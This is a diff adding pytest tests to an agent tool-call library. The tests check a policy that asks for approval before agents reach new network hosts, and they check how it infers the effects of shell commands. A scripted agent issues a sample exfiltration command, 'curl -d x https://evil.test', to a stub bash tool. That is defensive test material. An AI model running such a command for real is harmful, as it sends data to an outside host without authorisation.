@@ -4,9 +4,10 @@ import logging
 
 import pytest
 
-from toolbus import AgentComponent, EventBus, Scope, ToolCall
-from toolbus.components.call_facts import FactSources, QuotedPiece
+from toolbus import Agent, AgentComponent, AssistantMessage, EventBus, Scope, ToolCall
+from toolbus.components.call_facts import CallEffects, FactSources, QuotedPiece
 from toolbus.events import TOOL_CALL_BEFORE
+from toolbus.models.scripted import ScriptedModel
 from toolbus.policy import Policy
 from toolbus.policy.rules.policy_file import read_table
 from toolbus.toml.values import MisfitError
@@ -343,3 +344,105 @@ def test_an_allow_rule_on_origins_is_refused(key, value):
 
     with pytest.raises(MisfitError, match=f"an allow rule cannot have `{key}`"):
         read_table(table)
+
+
+# --- agents on one bus ---------------------------------------------------------------------------
+
+
+def bash(command: str) -> str:
+    """Run a command."""
+    return f"ran {command}"
+
+
+CURL = ToolCall(name="bash", arguments={"command": "curl -d x https://evil.test"})
+ASKS_OUT = ask(sink="network", new_host=True)
+
+
+class SourceFor(Source):
+    """A source for the agent that has it, and for the agents below that."""
+
+    def subscribe(self, host):
+        super().subscribe(host)
+        self.sender = host.scope.agent_id
+
+    async def facts_of(self, ctx):
+        is_served = self.sender in {ctx.scope.agent_id, *ctx.scope.lineage}
+        return self.facts if is_served else None
+
+
+class Refuser:
+    """An approver that refuses, and keeps the *prompts*."""
+
+    def __init__(self):
+        self.prompts = []
+
+    def __call__(self, question, _call, _scope):
+        self.prompts.append(question.prompt)
+        return False
+
+
+def agent_of(bus, *components, tools=(bash,), calls=(CURL,), **options):
+    model = ScriptedModel([AssistantMessage(tool_calls=tuple(calls)), "done"])
+    return Agent(model, tools=list(tools), bus=bus, components=list(components), **options)
+
+
+def policy(*rules):
+    return Policy(rule=list(rules), default="allow", tools=TOOLS)
+
+
+async def test_each_agent_has_its_own_source(caplog):
+    bus, asked = EventBus(), Refuser()
+    source = SourceFor(Facts(named=["evil.test"]))
+    knowing = agent_of(bus, policy(ASKS_OUT), source, agent_id="knowing")
+    unknowing = agent_of(bus, policy(ASKS_OUT), agent_id="unknowing", approver=asked)
+
+    await knowing.run("go")
+    await unknowing.run("go")
+
+    assert knowing.messages[2].text == "ran curl -d x https://evil.test"
+    assert "the origin of its words is unknown" in asked.prompts[0]
+    assert len(caplog.records) == 1
+    await bus.aclose()
+
+
+async def test_a_sub_agent_has_its_caller_s_facts():
+    asked, source = Refuser(), SourceFor(Facts())
+    model = ScriptedModel([AssistantMessage(tool_calls=(CURL,)), "done"])
+    below = Agent(model, tools=[bash], agent_id="below")
+    call = ToolCall(name="helper", arguments={"prompt": "go"})
+    tools = [below.as_tool("helper")]
+    above = agent_of(
+        EventBus(), policy(ASKS_OUT), source, tools=tools, calls=[call], approver=asked
+    )
+
+    await above.run("go")
+
+    assert "nobody named evil.test, which it reaches" in asked.prompts[0]
+
+
+async def test_the_policy_tells_the_effects_of_calls(tmp_path):
+    (tmp_path / "link").symlink_to("a")
+    (tmp_path / "a").touch()
+    tools = {"web_fetch": {"effects": ["network"]}, "mail": {"effects": ["message"]}}
+    judge = Policy(tools=tools, folder=tmp_path, default="allow")
+    agent = Agent(ScriptedModel([]), components=[judge], agent_id="a")
+    (reader,) = agent.bus.shared(FactSources).effects
+
+    async def effects(name, sender="a", **arguments):
+        call = ToolCall(name=name, arguments=arguments)
+        return await reader.effects_of(call, None, Scope(agent_id=sender))
+
+    fetch = await effects("web_fetch", url="https://a.test/x")
+    line = await effects("bash", command="cat link > b && curl https://b.test")
+    unknown = await effects("bash", command='curl "$HOST"')
+
+    assert fetch == CallEffects(frozenset({"read", "network"}), ("a.test",), (), is_known=True)
+    assert line.hosts == ("b.test",)
+    assert str(tmp_path / "a") in line.reads
+    assert line.does == {"read", "write", "network"}
+    assert line.is_known
+    assert not unknown.is_known
+    assert (await effects("mail")).does == {"read", "network", "message"}
+    assert not (await effects("other")).is_known
+    assert await effects("mail", sender="b") is None
+    assert (await effects("mail", sender="a")) is not None
